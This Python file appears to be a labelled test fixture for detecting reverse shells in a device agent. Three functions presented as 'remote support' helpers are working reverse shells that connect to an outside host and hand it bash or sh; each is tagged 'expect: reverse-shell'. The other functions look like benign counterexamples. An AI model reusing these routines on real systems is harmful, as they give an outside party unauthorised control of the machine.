"""'Remote support' helper found in the device agent."""
import os
import pty
import socket
import subprocess

SUPPORT_HOST = "support.vendor-example.net"


def open_support_session(port=4444):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((SUPPORT_HOST, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    # expect: reverse-shell
    pty.spawn("/bin/bash")


def fallback_session(host, port):
    sock = socket.socket()
    sock.connect((host, port))
    # expect: reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())


class Beacon:
    def __init__(self, host, port):
        self.conn = socket.create_connection((host, port), timeout=30)

    def attach(self):
        fd = self.conn.fileno()
        # expect: reverse-shell
        return subprocess.Popen(
            ["/bin/bash", "-i"],
            stdin=fd,
            stdout=fd,
            stderr=fd,
        )


def report_metrics(payload: bytes):
    with socket.create_connection((SUPPORT_HOST, 443), timeout=5) as conn:
        conn.sendall(payload)


def local_shell():
    """Interactive shell for the technician at the device's own console."""
    return pty.spawn("/bin/bash")


def rebuild():
    return subprocess.call(["/bin/sh", "-c", "make -C /opt/agent clean all"])
